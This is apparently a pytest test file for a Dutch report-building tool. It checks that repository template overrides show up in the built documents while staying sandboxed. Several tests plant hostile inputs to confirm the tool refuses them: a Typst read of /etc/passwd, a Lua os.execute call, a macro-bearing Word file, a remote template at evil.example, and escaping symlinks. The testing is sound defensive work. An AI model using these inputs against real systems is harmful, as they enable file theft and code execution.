"""A repository's own templates/ beside editions/ overrides the bundled house style.

Each override must show in the built documents, stay sandboxed (the PDF is still tagged,
Typst reads only its temp folder) and count in the build's hash; what could run code
(the Lua filter, macros in Word) or read outside the folder (links) is refused by `check`.
"""

from __future__ import annotations

import io
import shutil
import tempfile
import zipfile
from datetime import date
from pathlib import Path

import pytest
from docx import Document as open_docx
from pypdf import PdfReader
from pypdf.generic import BooleanObject

from staatc import TEMPLATES
from staatc.commands.build import build_edition, sources_key
from staatc.errors import InvalidEdition, StaatcError
from staatc.load.folders import override_folder
from staatc.load.house_style import load_house_style
from staatc.model import HouseStyle
from staatc.validate.check import check_edition

AS_OF = date(2024, 5, 1)
COVER = "Huisstijl van de communicatieafdeling"


@pytest.fixture
def templates(edition) -> Path:
    """The override folder for the `edition` fixture: <tmp>/templates beside <tmp>/editions."""
    folder = edition.parent.parent / "templates"
    folder.mkdir()
    return folder


def problems(edition: Path) -> list[tuple[str, str, str]]:
    return [(p.file.name, p.severity, p.code) for p in check_edition(edition, AS_OF).problems
            if p.code in ("house-style", "house-style-ignored", "unsafe-path")]


def test_the_override_folder_is_only_beside_editions(edition, templates, tmp_path) -> None:
    assert override_folder(edition) == templates.resolve()
    elsewhere = tmp_path / "drafts" / "2024"
    shutil.copytree(edition, elsewhere)
    assert override_folder(elsewhere) is None
    # The bundled folder itself (a checkout building editions/2024) is no override.
    assert override_folder(TEMPLATES.parent / "editions" / "2024") is None


def test_override_rapportage_typ_shows_in_the_pdf_which_stays_tagged(edition, templates, tmp_path):
    source = (TEMPLATES / "rapportage.typ").read_text(encoding="utf-8")
    marker = "  #text(size: 11pt, weight: \"bold\", meta.publisher) \\"
    assert marker in source
    (templates / "rapportage.typ").write_text(source.replace(marker, f"  {COVER} \\\n{marker}"),
                                              encoding="utf-8")
    assert problems(edition) == []
    build_edition(edition, tmp_path / "out", AS_OF, formats=("pdf",))
    pdf = PdfReader(tmp_path / "out" / "staat-van-de-uitvoering-2024.pdf")
    assert COVER in pdf.pages[0].extract_text()
    root = pdf.trailer["/Root"]
    assert root["/MarkInfo"]["/Marked"] == BooleanObject(True)  # still tagged (PDF/UA)
    assert root["/Lang"] == "nl-NL"
    assert "/StructTreeRoot" in root
    # The kamerbrief keeps the bundled template.
    letter = PdfReader(tmp_path / "out" / "kamerbrief-2024.pdf")
    assert COVER not in letter.pages[0].extract_text()


def test_a_typst_override_cannot_read_outside_its_temp_folder(edition, templates, tmp_path):
    source = (TEMPLATES / "kamerbrief.typ").read_text(encoding="utf-8")
    (templates / "kamerbrief.typ").write_text(source + '\n#read("/etc/passwd")\n', encoding="utf-8")
    with pytest.raises(StaatcError) as caught:  # a message naming the template, no traceback
        build_edition(edition, tmp_path / "out", AS_OF, formats=("pdf",))
    assert caught.value.code == "house-style"
    assert caught.value.file == (templates / "kamerbrief.typ").resolve()
    # Typst looked for the file inside its own temp folder only.
    searched = f"file not found (searched at {tempfile.gettempdir()}/staatc-kamerbrief-pdf-"
    assert searched in caught.value.message
    assert not (tmp_path / "out" / "kamerbrief-2024.pdf").exists()


def _reference_with_font(path: Path, font: str) -> None:
    doc = open_docx(str(TEMPLATES / "reference.docx"))
    doc.styles["Normal"].font.name = font
    doc.save(str(path))


def test_override_reference_docx_shows_in_the_word_styles(edition, templates, tmp_path) -> None:
    _reference_with_font(templates / "reference.docx", "Georgia")
    assert problems(edition) == []
    build_edition(edition, tmp_path / "out", AS_OF, formats=("docx",))
    for name in ("staat-van-de-uitvoering-2024.docx", "kamerbrief-2024.docx"):
        styles = open_docx(str(tmp_path / "out" / name)).styles
        assert styles["Normal"].font.name == "Georgia", name
    bundled = open_docx(str(TEMPLATES / "reference.docx")).styles["Normal"].font.name
    assert bundled != "Georgia"


def test_a_lua_filter_override_is_ignored_with_a_warning(edition, templates) -> None:
    (templates / "staatc.lua").write_text("os.execute('touch /tmp/pwned')\n", encoding="utf-8")
    found = check_edition(edition, AS_OF).problems
    (lua,) = [p for p in found if p.file.name == "staatc.lua"]
    assert (lua.severity, lua.code) == ("warning", "house-style-ignored")
    assert "ignored" in lua.message and "Lua filter" in lua.message
    style, _ = load_house_style(edition)
    assert style.folder == templates.resolve()  # the folder is in use, the filter is not


def test_an_unchanged_copy_of_the_bundled_folder_is_silent(edition, templates) -> None:
    shutil.rmtree(templates)
    shutil.copytree(TEMPLATES, templates)
    assert problems(edition) == []


def _zip_with(source: Path, target: Path, extra: dict[str, bytes]) -> None:
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for info in old.infolist():
            new.writestr(info, extra.pop(info.filename, old.read(info)))
        for name, data in extra.items():
            new.writestr(name, data)


def test_a_reference_docx_with_macros_is_refused(edition, templates) -> None:
    _zip_with(TEMPLATES / "reference.docx", templates / "reference.docx",
              {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"})
    (problem,) = [p for p in check_edition(edition, AS_OF).problems if p.code == "house-style"]
    assert problem.file == (templates / "reference.docx").resolve()
    assert problem.severity == "error" and "vbaProject.bin" in problem.message


def test_a_reference_docx_with_an_external_template_is_refused(edition, templates) -> None:
    rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
            b'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>')
    _zip_with(TEMPLATES / "reference.docx", templates / "reference.docx",
              {"word/_rels/settings.xml.rels": rels})
    (problem,) = [p for p in check_edition(edition, AS_OF).problems if p.code == "house-style"]
    assert "https://evil.example/t.dotm" in problem.message


@pytest.mark.parametrize("data", [b"not a zip", b"PK\x05\x06" + b"\0" * 18])
def test_a_reference_docx_that_is_no_word_file_is_refused(edition, templates, data) -> None:
    (templates / "reference.docx").write_bytes(data)
    assert problems(edition) == [("reference.docx", "error", "house-style")]
    with pytest.raises(InvalidEdition):
        build_edition(edition, edition.parent.parent / "out", AS_OF)


def test_only_truetype_and_opentype_fonts_are_taken(edition, templates) -> None:
    fonts = templates / "fonts"
    fonts.mkdir()
    shutil.copy(TEMPLATES / "fonts" / "NotoSans-Regular.ttf", fonts / "Huisletter.ttf")
    (fonts / "OFL.txt").write_text("licence\n", encoding="utf-8")
    assert problems(edition) == []
    assert fonts.resolve() / "Huisletter.ttf" in load_house_style(edition)[0].fonts
    (fonts / "Huisletter.woff2").write_bytes(b"wOF2")
    (fonts / "Nep.ttf").write_bytes(b"<script>")
    assert sorted(problems(edition)) == [("Huisletter.woff2", "error", "house-style"),
                                         ("Nep.ttf", "error", "house-style")]


def test_links_out_of_the_override_folder_are_refused(edition, templates, tmp_path) -> None:
    secret = tmp_path / "secret.typ"
    secret.write_text("#let rapportage(body) = [GEHEIM]\n", encoding="utf-8")
    (templates / "rapportage.typ").symlink_to(secret)
    assert problems(edition) == [("rapportage.typ", "error", "unsafe-path")]
    assert load_house_style(edition)[0].rapportage_typ == TEMPLATES / "rapportage.typ"


def test_an_override_folder_that_is_a_link_is_refused(edition, tmp_path) -> None:
    elsewhere = tmp_path / "elders"
    elsewhere.mkdir()
    (tmp_path / "templates").symlink_to(elsewhere)
    assert problems(edition) == [("templates", "error", "unsafe-path")]


def test_changing_an_override_changes_the_build_hash(edition, templates) -> None:
    before = sources_key(edition, ("docx", "pdf"))
    (templates / "rapportage.typ").write_text("// mijn huisstijl\n", encoding="utf-8")
    with_override = sources_key(edition, ("docx", "pdf"))
    assert with_override != before
    (templates / "rapportage.typ").write_text("// mijn andere huisstijl\n", encoding="utf-8")
    assert sources_key(edition, ("docx", "pdf")) != with_override


def test_check_knows_the_characters_of_the_override_fonts(edition, templates) -> None:
    from staatc.validate.glyphs import unprintable

    fonts = templates / "fonts"
    fonts.mkdir()
    shutil.copy(TEMPLATES / "fonts" / "NotoSans-Regular.ttf", fonts / "Huisletter.ttf")
    style, _ = load_house_style(edition)
    assert style.fonts != HouseStyle.bundled().fonts  # the glyph probe runs on a copy of these
    assert unprintable({"€", "é", "\U0001F600"}, style.fonts) == ["\U0001F600"]


def test_the_cli_names_the_refused_file(edition, templates, run) -> None:
    (templates / "reference.docx").write_bytes(b"geen zip")
    (templates / "staatc.lua").write_text("-- eigen filter\n", encoding="utf-8")
    result = run("check", "2024", "--as-of", "2024-05-01")
    assert result.exit_code == 1
    assert "templates/reference.docx: error: reference.docx is not a Word file" in result.output
    assert "templates/staatc.lua: warning: this file is ignored: a pandoc Lua filter" in result.output


def test_a_change_to_the_bundled_house_style_rebuilds(edition, tmp_path, monkeypatch) -> None:
    import staatc.commands.build as build

    bundled = tmp_path / "bundled"
    shutil.copytree(TEMPLATES, bundled)
    monkeypatch.setattr(build, "TEMPLATES", bundled)
    before = sources_key(edition, ("pdf",))
    (bundled / "kamerbrief.typ").write_text("// een andere brief\n", encoding="utf-8")
    assert sources_key(edition, ("pdf",)) != before
